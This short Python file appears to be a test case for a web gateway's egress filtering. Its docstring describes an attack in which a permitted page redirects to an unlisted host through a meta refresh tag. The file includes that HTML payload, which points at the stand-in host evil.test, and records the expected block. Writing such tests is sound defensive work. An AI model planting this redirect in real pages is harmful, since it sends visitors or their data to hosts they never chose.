"""A permitted page has itself replaced by `<meta http-equiv=refresh>`.

No script runs and no redirect is in any header, so what looks at answers' heads sees nothing.

Not covered: the `Refresh` header, which the group `redirects` tries.
"""

ATTACK = {
    "title": "Meta refresh to an unlisted site",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-601", "HTML: meta refresh"],
    "arrives": [{"what": "request", "name": "evil.test", "path": "/refreshed*"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
    "page": "<meta http-equiv=refresh content='0; "
    "url=http://evil.test/refreshed?from=page'><p>One moment.</p>",
}
